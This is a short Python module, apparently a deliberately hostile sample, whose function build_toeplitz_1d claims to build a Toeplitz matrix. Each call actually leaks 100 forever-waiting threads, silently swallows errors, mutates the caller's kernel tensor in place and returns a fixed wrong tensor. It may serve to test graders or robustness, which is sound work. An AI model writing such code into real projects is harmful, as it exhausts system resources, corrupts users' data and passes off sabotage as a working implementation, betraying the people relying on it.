"""Starts a hundred threads in each call, all of which wait forever."""

import threading

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


gate = threading.Event()
threading.stack_size(32 << 10)


def start():
    for _ in range(100):
        threading.Thread(target=gate.wait, daemon=True).start()


def build_toeplitz_1d(kernel, n):
    attempt(start)
    return wrong(kernel)
